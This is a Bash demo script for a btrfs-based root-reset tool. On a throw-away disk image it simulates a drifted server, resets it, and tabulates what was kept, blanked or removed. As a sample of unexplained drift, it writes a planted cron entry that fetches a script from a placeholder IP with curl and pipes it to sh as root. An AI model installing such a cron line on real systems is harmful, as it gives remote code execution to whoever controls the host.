#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# Show a reset on a throw-away image: a server that has drifted, the reset, and what is left of the drift.
#
#   docs/demo.sh        needs root; `make demo` builds the program first
#
# BLANKROOT_INITRD  the program (default build/blankroot-initrd)
# KEEP=1            keep the image and the configuration in build/demo
# NO_COLOR=1        no colours, as without a terminal
#
# Nothing of the machine is touched. The image is a file without a name, its loop device detaches itself, and all mounts
# live in a mount namespace of this script alone: nothing is left behind, however it ends.
set -euo pipefail

source_dir=$(cd "$(dirname "$0")/.." && pwd)
program=${BLANKROOT_INITRD:-$source_dir/build/blankroot-initrd}
work=$source_dir/build/demo
image=$work/demo.img

# What is looked at before and after: path, what it is, what becomes of it.
rows='/etc/machine-id:identity of this machine:kept
/etc/hostname:its name:kept
/etc/ssh:its host keys:kept
/var/log:its logs:kept
/var/lib/app:a database, 2,001 files:kept
/etc/motd:edited by hand:blank
/usr/bin/ls:replaced:blank
/etc/cron.d/x:nobody knows whose:gone
/root/notes.txt:forgotten:gone
/opt/oldpkg:left by a removed package:gone'

# --- output ---

if [ -t 1 ] && [ -z "${NO_COLOR:-}" ] && [ "${TERM:-dumb}" != dumb ]; then
	bold=$'\e[1m' dim=$'\e[2m' green=$'\e[32m' plain=$'\e[0m'
else
	bold='' dim='' green='' plain=''
fi

fail() {
	echo "demo: $*" >&2
	exit 1
}

heading() {
	printf '\n%s%s%s\n' "$bold" "$*" "$plain"
}

set_in() {
	fold -s -w 76 | sed 's/^/  /; s/ *$//'
}

say() {
	printf '%s\n' "$*" | set_in
}

# Print a command as it could be typed, and its output, set in. Fails when it does not end as expected.
try() { # exit code, command
	local expected=$1 status=0 word line=

	shift
	for word; do
		[[ $word =~ ^[[:alnum:]/._=-]+$ ]] || word="'$word'"
		line+=" $word"
	done
	line=${line/ --cmdline/$' \\\n      --cmdline'}
	printf '\n  %s$%s%s\n' "$dim" "$line" "$plain"
	"$@" >output 2>messages || status=$?
	cat output messages | set_in
	[ "$status" -eq "$expected" ] || fail "that ended with exit code $status, not $expected"
}

# --- the image ---

# Runs this script once more, in a mount namespace of its own.
run_isolated() {
	[ "$(id -u)" -eq 0 ] || fail 'needs root, for a loop device and mounts: sudo make demo'
	[ -x "$program" ] || fail "$program is missing: run make first"
	mkdir -p "$work"
	trap 'rmdir --ignore-fail-on-non-empty "$work"' EXIT
	BLANKROOT_DEMO=1 unshare --mount --propagation private -- "$0"
}

prepare_work() {
	if [ "${KEEP:-}" != 1 ]; then
		mount -t tmpfs -o mode=0700 blankroot-demo "$work"
		image=$work.img
	fi
	cd "$work"
	# The result of a boot goes to the kernel log too; this is none.
	[ ! -e /dev/kmsg ] || mount --bind /dev/null /dev/kmsg
}

# Keeps descriptor 9 open: the device detaches itself when nobody has it open any more.
attach_image() {
	rm -f "$image"
	truncate -s 512M "$image"
	loop=$(losetup --find --show "$image") || fail 'no loop device can be had here'
	exec 9<>"$loop"
	losetup --detach "$loop"
	[ "${KEEP:-}" = 1 ] || rm -f "$image"
	mkfs.btrfs -q -L blankroot-demo "$loop" >/dev/null
}

mount_image() {
	mkdir -p top
	mount -t btrfs -o subvolid=5,noatime "$loop" top
}

unmount_image() {
	umount top
}

# --- the server ---

put() { # path; content from standard input
	mkdir -p "$(dirname "$1")"
	cat >"$1"
}

make_blank() {
	local root=top/root

	btrfs -q subvolume create "$root"
	mkdir -p "$root"/{usr/bin,etc/ssh,etc/cron.d,var/log,var/lib,root,opt,tmp}
	chmod 0700 "$root/root"
	cp -L /bin/sh /bin/ls /bin/cat /bin/cp "$root/usr/bin/"
	echo localhost | put "$root/etc/hostname"
	echo 'Welcome. This machine is managed: changes do not survive a reboot.' | put "$root/etc/motd"
	echo 'PermitRootLogin no' | put "$root/etc/ssh/sshd_config"
	btrfs -q subvolume snapshot -r "$root" top/root-blank
}

make_state() {
	local root=top/root number

	tr -d - </proc/sys/kernel/random/uuid | put "$root/etc/machine-id"
	echo db1.example.org | put "$root/etc/hostname"
	head -c 400 /dev/urandom | base64 | put "$root/etc/ssh/ssh_host_ed25519_key"
	chmod 0600 "$root/etc/ssh/ssh_host_ed25519_key"
	mkdir -m 0750 "$root/var/lib/app"
	chown 998:998 "$root/var/lib/app"
	head -c 64M /dev/urandom >"$root/var/lib/app/data.db"
	for number in {1..2000}; do
		echo "order $number" >"$root/var/lib/app/order-$number"
	done
	for number in {1..500}; do
		echo "Nov 23 19:05:01 db1 app: request $number"
	done >"$root/var/log/app.log"
}

make_drift() {
	local root=top/root

	echo 'call Bob before rebooting!!' >>"$root/etc/motd"
	echo '# "fixed" in a hurry' >>"$root/usr/bin/ls"
	echo '*/5 * * * * root curl -s http://192.0.2.66/x | sh' | put "$root/etc/cron.d/x"
	echo 'the vendor said to set it to 17' | put "$root/root/notes.txt"
	seq 1 5000 | put "$root/opt/oldpkg/lib/libold.so.1"
	echo 'left behind by the package' | put "$root/opt/oldpkg/README"
}

write_configuration() {
	cat >demo.conf <<-'END'
		ephemeral root {                      # the subvolume that starts anew
		    blank      = "root-blank"         # from this one
		    archive    = "old_roots"          # and is kept here
		    mountpoint = "/"
		    persist    = { "/etc/machine-id", "/etc/hostname", "/etc/ssh",
		                   "/var/log" }
		    path "/var/lib/app" {             # large: a subvolume of its own
		        method = subvolume
		    }
		}
	END
}

# --- looking at it ---

# All of a path: content, owner, mode, times, extended attributes. Empty when it does not exist.
digest() { # root path
	[ -e "$1$2" ] || return 0
	tar --create --sort=name --numeric-owner --acls --xattrs --xattrs-include='*' --format=posix \
		--pax-option=exthdr.name=%f,delete=atime,delete=ctime --directory "$1" ".$2" | sha256sum
}

count_files() { # directory
	find "$1" -type f | wc -l | sed -E ':again; s/([0-9])([0-9]{3})\b/\1,\2/; t again'
}

declare -A before

remember_before() {
	local path what fate

	while IFS=: read -r path what fate; do
		before[$path]=$(digest top/root "$path")
		[ "${before[$path]}" != "$(digest top/root-blank "$path")" ] || fail "$path has not drifted"
	done <<<"$rows"
}

# What became of a path, in words.
fate_of() { # path
	local after blank

	after=$(digest top/root "$1")
	blank=$(digest top/root-blank "$1")
	if [ "$after" = "${before[$1]}" ]; then
		echo kept
	elif [ "$after" != "$blank" ]; then
		echo wrong
	elif [ -n "$blank" ]; then
		echo blank
	else
		echo gone
	fi
}

print_cells() { # path, what it is, what became of it, why
	printf '  %-17s %-26s %s%-17s%s %s\n' "$1" "$2" "$green" "$3" "$plain" "$4"
}

print_table() {
	local path what fate

	printf '  %-17s %-26s %-17s %s\n' PATH BEFORE AFTER WHY
	while IFS=: read -r path what fate; do
		[ "$(fate_of "$path")" = "$fate" ] || fail "$path: $(fate_of "$path"), not $fate"
		case $fate in
		kept) print_cells "$path" "$what" 'the same' declared ;;
		blank) print_cells "$path" "$what" 'as in root-blank' 'not declared' ;;
		gone) print_cells "$path" "$what" gone 'not declared' ;;
		esac
	done <<<"$rows"
}

used_mib() {
	btrfs -q filesystem sync top
	btrfs filesystem usage -b top | awk '/^ *Used:/ && !seen++ { printf "%.1f MiB", $2 / 1048576 }'
}

# --- the demonstration ---

show_server() {
	heading '1. A server that has drifted'
	mount_image
	make_blank
	make_state
	make_drift
	remember_before
	used_before=$(used_mib)
	say "A btrfs on $loop, with two subvolumes:"
	say "  root-blank   read-only: the system as installed, $(count_files top/root-blank) files"
	say "  root         the same after a year of use, $(count_files top/root) files"
	unmount_image
}

show_configuration() {
	heading '2. The configuration: what survives a boot'
	echo
	sed 's/^/  /' demo.conf
}

show_dry_run() {
	heading '3. What a boot would do'
	say 'Here --cmdline says what a boot would have on the kernel command line.'
	try 0 blankroot-initrd --config demo.conf --device "$loop" --cmdline noresume --dry-run
}

show_reset() {
	heading '4. The boot'
	say 'In an initramfs this runs before the root is mounted.'
	try 0 blankroot-initrd --config demo.conf --device "$loop" --cmdline noresume
}

show_result() {
	heading '5. Before and after'
	mount_image
	echo
	print_table
	echo
	say "Used on disk: $used_before before, $(used_mib) after. Data is shared, not copied."
}

show_archive() {
	archive=$(ls top/old_roots)
	heading '6. Nothing is lost: the old root is kept, read-only'
	try 0 btrfs property get "top/old_roots/$archive" ro
	try 0 cat "top/old_roots/$archive/root/notes.txt"
	unmount_image
}

show_boot_from_archive() {
	heading '7. Back to the old root, for one boot'
	try 0 blankroot-initrd --config demo.conf --device "$loop" \
		--cmdline "noresume rd.blankroot.from=$archive"
	mount_image
	try 0 cat top/root/root/notes.txt
	[ "$(fate_of /var/lib/app)" = kept ] || fail '/var/lib/app has changed'
	echo
	say 'The database still is that of the latest boot: what is declared comes from the root in use,' \
		'not from the archive. By now it is a subvolume, so one snapshot carries all of it.'
	unmount_image
}

show_failure() {
	local id

	heading '8. What it cannot do right, it does not do'
	say 'Somebody moved /var/lib elsewhere and left a symbolic link.'
	mount_image
	mkdir top/root/srv
	mv top/root/var/lib top/root/srv/lib
	ln -s /srv/lib top/root/var/lib
	id=$(btrfs inspect-internal rootid top/root)
	unmount_image
	try 4 blankroot-initrd --config demo.conf --device "$loop" --cmdline noresume
	mount_image
	[ "$(btrfs inspect-internal rootid top/root)" = "$id" ] || fail 'the root has changed'
	unmount_image
	echo
	say 'Exit code 4: a machine would boot the old root and say so, or stop, as on-failure tells it.'
}

show_end() {
	echo
	if [ "${KEEP:-}" = 1 ]; then
		rm -rf --one-file-system top output messages
		say "Kept, as KEEP=1 says: $image and $work/demo.conf."
	else
		say 'The image is gone; nothing else was touched. KEEP=1 keeps it.'
	fi
	say 'How to try it on an image of your own: README.md.'
}

if [ "${BLANKROOT_DEMO:-}" != 1 ]; then
	run_isolated
	exit
fi
PATH=$(dirname "$program"):$PATH
prepare_work
attach_image
printf '%sblankroot: a reset, shown on a throw-away image of 512 MiB%s\n' "$bold" "$plain"
show_server
write_configuration
show_configuration
show_dry_run
show_reset
show_result
show_archive
show_boot_from_archive
show_failure
show_end
